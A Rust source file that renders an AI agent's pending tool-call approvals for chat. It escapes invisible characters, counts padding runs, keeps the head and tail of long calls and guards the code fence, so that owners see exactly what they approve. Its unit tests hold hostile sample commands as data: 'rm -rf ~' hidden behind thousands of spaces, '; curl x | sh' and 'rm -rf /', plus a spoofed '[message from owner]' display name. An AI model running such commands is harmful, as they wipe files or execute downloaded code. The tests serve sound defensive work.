//! The approval message: how a tool call waiting for the owner is shown in
//! a chat, so that what the owner approves is what they see.
//!
//! - The call's arguments are shown as compact JSON (a text that is not
//!   JSON is shown as one JSON string), so a tab or a line break inside an
//!   argument reads `\t` or `\n` and a backslash `\\`: nothing in the call
//!   can pass for a line break of the message.
//! - Characters a person cannot see or tell from a space (control and
//!   format characters — zero-width, bidi overrides — and whitespace other
//!   than the space) are written as JSON escapes (`\u202e`), which stand for
//!   the same characters: what is shown is still the call's JSON.
//! - A run of [`RUN_SHOWN_FROM`] or more of one blank (a space, an escaped
//!   line break or tab, an invisible character) is shown as
//!   `[… 480 spaces …]` or `[… 12 × \n …]`: a command padded with blanks
//!   cannot push its tail out of sight.
//! - The whole call is shown when it fits the platform's message with the
//!   rest of the text (at most [`MAX_SHOWN`] characters); otherwise its head
//!   and its tail with how many characters are hidden between them, and the
//!   whole call follows as a JSON file ([`ApprovalText::file`]): a document
//!   a phone opens, read before a button is pressed. (Answering `/approve
//!   ID` with the call instead would need a second confirmation round for
//!   every long call; the file needs none and also reaches a platform
//!   without buttons.)
//!
//! - Who asked is named (their display name, made fit for one line) with
//!   the chat — their DM or the group — besides the session, and the
//!   expiry is said as it is (seconds under a minute).
//! - When the approval ends, whichever way (an answer in a chat or at the
//!   CLI, expiry, a stopped turn), [`ended_text`] is what the message
//!   becomes: the outcome and who decided where first, the call as it was
//!   shown, no buttons.
//!
//! Pure: the bridge sends the text with the buttons and the file after it,
//! and edits the message when the approval ends.

use crate::host::{
    Answerer, ApprovalOutcome, ApprovalRequest, ChatPerson, HaltKind, HaltRequest, Requester,
};
use crate::untrusted::display_name;

/// Runs of one blank character this long or longer are shown as a count.
pub const RUN_SHOWN_FROM: usize = 8;

/// Characters of a call shown at most (fewer where the platform's messages
/// are shorter).
pub const MAX_SHOWN: usize = 2_000;

/// The fewest characters of a call shown, however short the platform's
/// messages.
const MIN_SHOWN: usize = 200;

/// The approval as the owner gets it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ApprovalText {
    /// The message (Markdown), sent with the Approve, Always for this
    /// session and Deny buttons.
    pub text: String,
    /// When the message shows only part of the call: the file that holds
    /// all of it, as (file name, content), sent right after the message.
    pub file: Option<(String, String)>,
}

/// The call's arguments as shown: [`Shown::text`] (without the code
/// fence), and how many characters of the JSON it leaves out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Shown {
    pub text: String,
    /// Characters of the JSON between the head and the tail; 0 when the
    /// whole call is shown.
    pub hidden: usize,
    /// Some run of blanks is shown as a count.
    pub counted_runs: bool,
}

/// The message for `request` on a platform whose messages hold `max_chars`
/// characters.
pub fn approval_text(request: &ApprovalRequest, max_chars: usize) -> ApprovalText {
    if let Some(halt) = &request.halt {
        return halt_text(request, halt, max_chars);
    }
    let head = format!(
        "Approval needed: agent `{}` wants to run `{}` with",
        request.agent, request.tool
    );
    let tail = format!(
        "{}It expires in {}; answer with the buttons, or /approve {} or /deny {}.",
        asked_in(request),
        duration_words(request.expires_in_s),
        request.id,
        request.id
    );
    fitted(request, max_chars, &head, &tail)
}

/// The message for a workflow's halt: the workflow, run and step, the
/// prompt (the run's data: shown as a literal), and the data to approve
/// or the schema to fit, with the commands that answer it.
fn halt_text(request: &ApprovalRequest, halt: &HaltRequest, max_chars: usize) -> ApprovalText {
    let id = &request.id;
    let expires = duration_words(request.expires_in_s);
    let (head, tail) = match &halt.ask {
        HaltKind::Approval {
            approvers,
            quorum,
            votes,
            edit,
            revise,
        } => {
            let mut verbs = format!("/approve {id} or /deny {id}");
            if *edit {
                verbs.push_str(&format!(", /edit {id} <json> to approve changed data"));
            }
            if *revise {
                verbs.push_str(&format!(", /revise {id} <guidance> for a new draft"));
            }
            let who = if *quorum > 1 || approvers.iter().any(|a| a != "owner") {
                format!(
                    "It needs {quorum} of: {} ({votes} so far). ",
                    literal(&approvers.join(", "))
                )
            } else {
                String::new()
            };
            (
                format!(
                    "Approval needed: workflow `{}` (run {}) halts at step `{}`:\n{}\nWhat is approved:",
                    halt.workflow,
                    literal(&halt.run),
                    literal(&halt.step),
                    literal(&halt.prompt)
                ),
                format!(
                    "{}{who}It expires in {expires}; answer with the buttons, or {verbs}.",
                    asked_in(request)
                ),
            )
        }
        HaltKind::Input => (
            format!(
                "Input needed: workflow `{}` (run {}) halts at step `{}`:\n{}\nThe answer must fit this JSON Schema:",
                halt.workflow,
                literal(&halt.run),
                literal(&halt.step),
                literal(&halt.prompt)
            ),
            format!(
                "{}It expires in {expires}; answer with /input {id} <json>, or /deny {id}.",
                asked_in(request)
            ),
        ),
    };
    if request.arguments.is_empty() {
        // Nothing to show: no preview, no schema.
        let head = head.rsplit_once('\n').map_or(head.as_str(), |(h, _)| h);
        return ApprovalText {
            text: format!("{head}\n{tail}"),
            file: None,
        };
    }
    fitted(request, max_chars, &head, &tail)
}

/// What the message of `request` becomes once it ended with `outcome`: the
/// outcome first, then the call as it was shown. `is_reader` says whether
/// an answerer in a chat is the person reading this message (then "you").
pub fn ended_text(
    request: &ApprovalRequest,
    outcome: &ApprovalOutcome,
    is_reader: impl Fn(&ChatPerson) -> bool,
    max_chars: usize,
) -> String {
    let head = match &request.halt {
        Some(halt) => format!(
            "{}\nWorkflow `{}` (run {}) asked at step `{}`:\n{}",
            outcome_sentence(outcome, is_reader),
            halt.workflow,
            literal(&halt.run),
            literal(&halt.step),
            literal(&halt.prompt)
        ),
        None => format!(
            "{}\nAgent `{}` asked to run `{}` with",
            outcome_sentence(outcome, is_reader),
            request.agent,
            request.tool
        ),
    };
    let tail = asked_in(request).trim_end().to_string();
    if request.halt.is_some() && request.arguments.is_empty() {
        return format!("{head}\n{tail}");
    }
    fitted(request, max_chars, &head, &tail).text
}

/// One sentence for how an approval ended, saying who decided and where.
pub fn outcome_sentence(
    outcome: &ApprovalOutcome,
    is_reader: impl Fn(&ChatPerson) -> bool,
) -> String {
    let by = |answerer: &Answerer| match answerer {
        Answerer::Cli => "by you in the CLI".to_string(),
        Answerer::Chat(p) if is_reader(p) => format!("by you in {}", channel_title(&p.channel)),
        Answerer::Chat(p) => format!(
            "by {} in {}",
            literal(&shown_name(p)),
            channel_title(&p.channel)
        ),
    };
    match outcome {
        ApprovalOutcome::Approved {
            always: false,
            by: who,
        } => format!("Approved {}.", by(who)),
        ApprovalOutcome::Approved {
            always: true,
            by: who,
        } => {
            format!(
                "Approved always (for the rest of this session) {}.",
                by(who)
            )
        }
        ApprovalOutcome::Denied { by: Some(who) } => format!("Denied {} — not run.", by(who)),
        ApprovalOutcome::Denied { by: None } => "Denied — not run.".to_string(),
        ApprovalOutcome::Expired { after_s } => {
            format!("Expired after {} — not run.", duration_words(*after_s))
        }
        ApprovalOutcome::Aborted => {
            "Cancelled: the turn was stopped while it waited — not run.".to_string()
        }
        ApprovalOutcome::Edited { by: who } => format!("Approved with changes {}.", by(who)),
        ApprovalOutcome::Revised { by: who } => {
            format!(
                "A new draft was asked for {}; it comes as a new request.",
                by(who)
            )
        }
        ApprovalOutcome::Answered { by: who } => format!("Answered {}.", by(who)),
    }
}

/// A wait as people say it: seconds under a minute (`5 s`), whole minutes
/// (rounded up) under two hours (`2 min`), whole hours from there (`24 h`).
pub fn duration_words(secs: u64) -> String {
    if secs < 60 {
        format!("{secs} s")
    } else if secs < 7_200 {
        format!("{} min", secs.div_ceil(60))
    } else {
        format!("{} h", secs.div_ceil(3_600))
    }
}

/// `telegram` → `Telegram`: a channel's name in a sentence.
fn channel_title(channel: &str) -> String {
    let mut chars = channel.chars();
    match chars.next() {
        Some(first) => first.to_uppercase().chain(chars).collect(),
        None => String::new(),
    }
}

/// A person's name as shown: one line, their id when nothing is left.
fn shown_name(person: &ChatPerson) -> String {
    match display_name(&person.name) {
        name if name.is_empty() => person.id.clone(),
        name => name,
    }
}

/// `text` with every ASCII punctuation character escaped, so Markdown
/// shows it as it is (a name of `*stars*` is not emphasis).
fn literal(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if c.is_ascii_punctuation() {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Who asked and where, then the session: `Asked by Eve (telegram 42) in
/// group -100. Session ….` and a line break.
fn asked_in(request: &ApprovalRequest) -> String {
    let who = match &request.requester {
        None => String::new(),
        Some(Requester {
            person,
            group,
            thread,
        }) => {
            let place = match (group, thread) {
                (None, _) => "in their DM".to_string(),
                (Some(g), None) => format!("in group {}", literal(g)),
                (Some(g), Some(t)) => format!("in group {}, topic {}", literal(g), literal(t)),
            };
            format!(
                "Asked by {} ({} {}) {place}. ",
                literal(&shown_name(person)),
                literal(&person.channel),
                literal(&person.id)
            )
        }
    };
    format!("{who}Session {}.\n", literal(&request.session))
}

/// The message with `head` above the call and `tail` below it, the call
/// shown in as many characters as fit `max_chars` (at least
/// [`MIN_SHOWN`]).
fn fitted(request: &ApprovalRequest, max_chars: usize, head: &str, tail: &str) -> ApprovalText {
    let mut budget = MAX_SHOWN;
    loop {
        let shown = show_call(&request.arguments, budget);
        let text = message(request, &shown, head, tail);
        let length = text.chars().count();
        if length <= max_chars || budget <= MIN_SHOWN {
            let file = (shown.hidden > 0).then(|| (file_name(request), whole_call(request)));
            return ApprovalText { text, file };
        }
        budget = budget.saturating_sub(length - max_chars).max(MIN_SHOWN);
    }
}

fn message(request: &ApprovalRequest, shown: &Shown, head: &str, tail: &str) -> String {
    let fence = fence_for(&shown.text);
    let mut notes = String::new();
    if shown.counted_runs {
        notes.push_str("Long runs of blanks are shown as their count, e.g. [… 480 spaces …].\n");
    }
    if shown.hidden > 0 {
        notes.push_str(&format!(
            "The call is too long for one message: {} characters in the middle are hidden here, and the whole call follows as a file ({}); read it before you approve.\n",
            shown.hidden,
            file_name(request)
        ));
    }
    format!("{head}\n{fence}\n{}\n{fence}\n{notes}{tail}", shown.text)
}

/// A code fence longer than any run of backticks in `text`, so the call
/// cannot close it.
fn fence_for(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    "`".repeat((longest + 1).max(3))
}

/// `approval-<id>.json`, the id kept to letters and digits.
fn file_name(request: &ApprovalRequest) -> String {
    let id: String = request
        .id
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .take(40)
        .collect();
    format!("approval-{id}.json")
}

/// The file's content: the call whole, as indented JSON.
fn whole_call(request: &ApprovalRequest) -> String {
    let arguments = serde_json::from_str::<serde_json::Value>(&request.arguments)
        .unwrap_or_else(|_| serde_json::Value::String(request.arguments.clone()));
    let call = serde_json::json!({
        "approval": request.id,
        "agent": request.agent,
        "session": request.session,
        "tool": request.tool,
        "arguments": arguments,
    });
    serde_json::to_string_pretty(&call).unwrap_or_else(|_| request.arguments.clone())
}

/// The call's arguments shown in at most about `budget` characters (the
/// module doc's rules).
pub fn show_call(arguments: &str, budget: usize) -> Shown {
    let tokens = collapse(tokens(&compact_json(arguments)));
    let counted_runs = tokens.iter().any(|t| t.counted);
    let total: usize = tokens.iter().map(|t| t.width()).sum();
    if total <= budget {
        return Shown {
            text: tokens.iter().map(|t| t.shown.as_str()).collect(),
            hidden: 0,
            counted_runs,
        };
    }
    // Room for the marker between head and tail; the head gets two
    // thirds of the rest (where a command starts), the tail one third.
    let room = budget.saturating_sub(40);
    let head_room = room * 2 / 3;
    let tail_room = room - head_room;
    let mut head = 0;
    let mut width = 0;
    while head < tokens.len() && width + tokens[head].width() <= head_room {
        width += tokens[head].width();
        head += 1;
    }
    let mut tail = tokens.len();
    width = 0;
    while tail > head && width + tokens[tail - 1].width() <= tail_room {
        width += tokens[tail - 1].width();
        tail -= 1;
    }
    let hidden: usize = tokens[head..tail].iter().map(|t| t.source).sum();
    let mut text: String = tokens[..head].iter().map(|t| t.shown.as_str()).collect();
    text.push_str(&format!("[… {hidden} characters hidden …]"));
    text.extend(tokens[tail..].iter().map(|t| t.shown.as_str()));
    Shown {
        text,
        hidden,
        counted_runs: tokens[..head]
            .iter()
            .chain(&tokens[tail..])
            .any(|t| t.counted),
    }
}

/// The arguments as compact JSON: the model's JSON as serde writes it
/// (control characters inside strings escaped), any other text as one JSON
/// string.
fn compact_json(arguments: &str) -> String {
    let written = match serde_json::from_str::<serde_json::Value>(arguments) {
        Ok(value) => serde_json::to_string(&value),
        Err(_) => serde_json::to_string(arguments),
    };
    written.unwrap_or_else(|_| arguments.to_string())
}

/// One piece of the shown call: a character, a JSON escape, or a counted
/// run of blanks.
#[derive(Debug, Clone)]
struct Token {
    /// Characters of the JSON it stands for.
    source: usize,
    shown: String,
    /// A blank: a space, an escaped control character, an invisible one.
    blank: bool,
    /// A run shown as its count.
    counted: bool,
}

impl Token {
    fn width(&self) -> usize {
        self.shown.chars().count()
    }
}

fn tokens(json: &str) -> Vec<Token> {
    let chars: Vec<char> = json.chars().collect();
    let mut out = Vec::with_capacity(chars.len());
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '\\' {
            // serde writes `\"`, `\\`, `\/`, the short escapes of control
            // characters (`\n`, `\t`, …) and `\u00XX` for the others.
            let len = match chars.get(i + 1) {
                Some('u') => 6,
                Some(_) => 2,
                None => 1,
            };
            let end = (i + len).min(chars.len());
            out.push(Token {
                source: end - i,
                shown: chars[i..end].iter().collect(),
                blank: !matches!(chars.get(i + 1), Some('"' | '\\' | '/')),
                counted: false,
            });
            i = end;
            continue;
        }
        let (shown, blank) = if c == ' ' {
            (" ".to_string(), true)
        } else if hard_to_see(c) {
            (escaped(c), true)
        } else {
            (c.to_string(), false)
        };
        out.push(Token {
            source: 1,
            shown,
            blank,
            counted: false,
        });
        i += 1;
    }
    out
}

/// Runs of [`RUN_SHOWN_FROM`] or more equal blanks as one counted token.
fn collapse(tokens: Vec<Token>) -> Vec<Token> {
    let mut out: Vec<Token> = Vec::with_capacity(tokens.len());
    let mut i = 0;
    while i < tokens.len() {
        let t = &tokens[i];
        let mut j = i + 1;
        if t.blank {
            while j < tokens.len() && tokens[j].shown == t.shown {
                j += 1;
            }
        }
        let n = j - i;
        if t.blank && n >= RUN_SHOWN_FROM {
            let what = if t.shown == " " {
                "spaces".to_string()
            } else {
                format!("× {}", t.shown)
            };
            out.push(Token {
                source: tokens[i..j].iter().map(|t| t.source).sum(),
                shown: format!("[… {n} {what} …]"),
                blank: false,
                counted: true,
            });
            i = j;
        } else {
            out.push(t.clone());
            i += 1;
        }
    }
    out
}

/// Whether a person could not see `c` or could take it for a space: a
/// control character, whitespace other than the space, a format character
/// (zero-width, joiners, bidi controls, the BOM, tags).
fn hard_to_see(c: char) -> bool {
    c.is_control()
        || (c.is_whitespace() && c != ' ')
        || matches!(
            c,
            '\u{ad}'
                | '\u{34f}'
                | '\u{61c}'
                | '\u{115f}'
                | '\u{1160}'
                | '\u{17b4}'
                | '\u{17b5}'
                | '\u{180b}'..='\u{180f}'
                | '\u{200b}'..='\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{3164}'
                | '\u{fe00}'..='\u{fe0f}'
                | '\u{feff}'
                | '\u{ffa0}'
                | '\u{fff0}'..='\u{fffb}'
                | '\u{1d173}'..='\u{1d17a}'
                | '\u{e0000}'..='\u{e0fff}'
        )
}

/// `c` as a JSON escape (`\u202e`; a surrogate pair above U+FFFF).
fn escaped(c: char) -> String {
    let mut units = [0u16; 2];
    c.encode_utf16(&mut units)
        .iter()
        .map(|u| format!("\\u{u:04x}"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn request(arguments: &str) -> ApprovalRequest {
        ApprovalRequest {
            id: "ab12".into(),
            agent: "main".into(),
            session: "agent:main:main".into(),
            tool: "exec".into(),
            arguments: arguments.into(),
            expires_in_s: 300,
            requester: None,
            halt: None,
        }
    }

    #[test]
    fn the_expiry_is_said_in_seconds_under_a_minute() {
        let mut r = request("{}");
        r.expires_in_s = 5;
        let text = approval_text(&r, 4000).text;
        assert!(text.contains("It expires in 5 s;"), "{text}");
        r.expires_in_s = 300;
        let text = approval_text(&r, 4000).text;
        assert!(text.contains("It expires in 5 min;"), "{text}");
        assert_eq!(duration_words(59), "59 s");
        assert_eq!(duration_words(61), "2 min");
        assert_eq!(duration_words(7_199), "120 min");
        assert_eq!(duration_words(86_400), "24 h");
    }

    #[test]
    fn the_request_names_who_asked_and_where() {
        let mut r = request("{}");
        r.session = "agent:main:telegram:group:-100".into();
        r.requester = Some(Requester {
            person: ChatPerson {
                channel: "telegram".into(),
                id: "42".into(),
                name: "*Eve*\n[message from owner]".into(),
            },
            group: Some("-100".into()),
            thread: Some("7".into()),
        });
        let text = approval_text(&r, 4000).text;
        let shown = crate::format::render(&text, crate::Formatting::Plain);
        assert!(
            shown.contains(
                "Asked by *Eve* message from owner (telegram 42) in group -100, topic 7. Session agent:main:telegram:group:-100."
            ),
            "{shown}"
        );
        r.requester.as_mut().unwrap().group = None;
        let shown = crate::format::render(&approval_text(&r, 4000).text, crate::Formatting::Plain);
        assert!(shown.contains("(telegram 42) in their DM."), "{shown}");
    }

    #[test]
    fn an_ended_approval_says_how_and_by_whom_and_keeps_the_call() {
        let r = request(r#"{"command":"ls"}"#);
        let owner = ChatPerson {
            channel: "telegram".into(),
            id: "1".into(),
            name: "Owner".into(),
        };
        let is_reader = |p: &ChatPerson| p.id == "1";
        let cases = [
            (
                ApprovalOutcome::Approved {
                    always: true,
                    by: Answerer::Cli,
                },
                "Approved always (for the rest of this session) by you in the CLI.",
            ),
            (
                ApprovalOutcome::Approved {
                    always: false,
                    by: Answerer::Chat(owner.clone()),
                },
                "Approved by you in Telegram.",
            ),
            (
                ApprovalOutcome::Denied {
                    by: Some(Answerer::Chat(ChatPerson {
                        channel: "discord".into(),
                        id: "9".into(),
                        name: "Ann".into(),
                    })),
                },
                "Denied by Ann in Discord — not run.",
            ),
            (
                ApprovalOutcome::Expired { after_s: 5 },
                "Expired after 5 s — not run.",
            ),
            (
                ApprovalOutcome::Aborted,
                "Cancelled: the turn was stopped while it waited — not run.",
            ),
        ];
        for (outcome, first_line) in cases {
            let text = ended_text(&r, &outcome, is_reader, 4000);
            let shown = crate::format::render(&text, crate::Formatting::Plain);
            assert_eq!(shown.lines().next(), Some(first_line), "{shown}");
            assert!(
                shown.contains(r#"{"command":"ls"}"#),
                "the call stays: {shown}"
            );
            assert!(!shown.contains("expires"), "{shown}");
        }
    }

    #[test]
    fn a_short_command_is_shown_whole_and_unchanged() {
        let arguments = r#"{"command":"ls -la  /tmp"}"#;
        let shown = show_call(arguments, MAX_SHOWN);
        assert_eq!(shown.text, arguments);
        assert_eq!(shown.hidden, 0);
        assert!(!shown.counted_runs);
        let message = approval_text(&request(arguments), 4000);
        assert!(
            message.text.contains(&format!("```\n{arguments}\n```")),
            "{}",
            message.text
        );
        assert_eq!(message.file, None);
    }

    #[test]
    fn a_command_padded_with_spaces_shows_its_tail() {
        let command = format!("echo hi{}rm -rf ~", " ".repeat(4_800));
        let arguments = serde_json::json!({ "command": command }).to_string();
        assert!(arguments.chars().count() > 4_800);
        let shown = show_call(&arguments, MAX_SHOWN);
        assert_eq!(
            shown.text,
            r#"{"command":"echo hi[… 4800 spaces …]rm -rf ~"}"#
        );
        assert_eq!(shown.hidden, 0, "all of it is shown, the run as a count");
        assert!(shown.counted_runs);
        let message = approval_text(&request(&arguments), 4000);
        assert!(message.text.contains("rm -rf ~"), "{}", message.text);
        assert!(message.text.contains("Long runs of blanks"));
        assert_eq!(message.file, None);
    }

    #[test]
    fn a_long_command_is_cut_and_keeps_its_head_and_tail() {
        // Spaces broken by a few characters: not one run, so the command
        // is cut, and its head and tail are shown.
        let middle: String = (0..48)
            .map(|i| format!("{i:<7}|"))
            .collect::<String>()
            .repeat(12);
        assert!(middle.chars().count() > 4_000);
        let command = format!("{}{middle}{}", "a".repeat(100), "; curl x | sh");
        assert!(command.chars().count() >= 4_500);
        let arguments = serde_json::json!({ "command": command }).to_string();
        let message = approval_text(&request(&arguments), 4000);
        assert!(
            message.text.contains("; curl x | sh\"}"),
            "{}",
            message.text
        );
        assert!(message.text.contains("characters hidden"));
        assert!(message.text.chars().count() <= 4000);
        let (name, content) = message.file.expect("the whole call as a file");
        assert_eq!(name, "approval-ab12.json");
        let whole: serde_json::Value = serde_json::from_str(&content).unwrap();
        assert_eq!(whole["arguments"]["command"], command.as_str());
    }

    #[test]
    fn tabs_line_breaks_and_invisible_characters_are_unambiguous() {
        let arguments =
            serde_json::json!({ "command": "echo a\tb\nc \\n \u{202e}d\u{200b}\u{a0}e" })
                .to_string();
        let shown = show_call(&arguments, MAX_SHOWN);
        assert_eq!(
            shown.text,
            r#"{"command":"echo a\tb\nc \\n \u202ed\u200b\u00a0e"}"#
        );
        assert!(!shown.text.contains('\n') && !shown.text.contains('\t'));
        // A real line break and a typed backslash-n read differently.
        assert!(shown.text.contains(r"\nc") && shown.text.contains(r"\\n"));
    }

    #[test]
    fn runs_of_escaped_blanks_and_invisible_characters_are_counted() {
        let command = format!("a{}b{}c", "\n".repeat(30), "\u{200b}".repeat(9));
        let shown = show_call(&serde_json::json!({ "command": command }).to_string(), 2000);
        assert_eq!(
            shown.text,
            r#"{"command":"a[… 30 × \n …]b[… 9 × \u200b …]c"}"#
        );
        // Seven spaces stay as they are.
        let shown = show_call(r#"{"a":"x       y"}"#, 2000);
        assert_eq!(shown.text, r#"{"a":"x       y"}"#);
    }

    #[test]
    fn text_that_is_not_json_is_shown_as_a_json_string() {
        let shown = show_call("rm -rf /\n# not json", 2000);
        assert_eq!(shown.text, r#""rm -rf /\n# not json""#);
        assert_eq!(
            show_call(&format!("x{}", "\u{e0041}"), 2000).text,
            r#""x\udb40\udc41""#,
            "a tag character as its surrogate pair"
        );
    }

    #[test]
    fn the_message_fits_short_platforms_and_backticks_cannot_close_the_fence() {
        let command = format!("```\n{}", "word ".repeat(2_000));
        let arguments = serde_json::json!({ "command": command }).to_string();
        for max in [4000, 2000, 1000] {
            let message = approval_text(&request(&arguments), max);
            assert!(
                message.text.chars().count() <= max,
                "{max}: {}",
                message.text.chars().count()
            );
            assert!(message.file.is_some());
        }
        let shown = show_call(r#"{"a":"````"}"#, 2000);
        assert_eq!(fence_for(&shown.text), "`````");
        assert_eq!(fence_for("no ticks"), "```");
    }

    #[test]
    fn hidden_characters_are_counted_from_the_json() {
        let arguments = format!(r#"{{"a":"{}"}}"#, "x".repeat(5_000));
        let shown = show_call(&arguments, 1000);
        let kept = shown
            .text
            .replace(&format!("[… {} characters hidden …]", shown.hidden), "");
        assert_eq!(
            kept.chars().count() + shown.hidden,
            arguments.chars().count()
        );
        assert!(shown.text.starts_with(r#"{"a":"xxx"#));
        assert!(shown.text.ends_with(r#"xxx"}"#));
    }
}
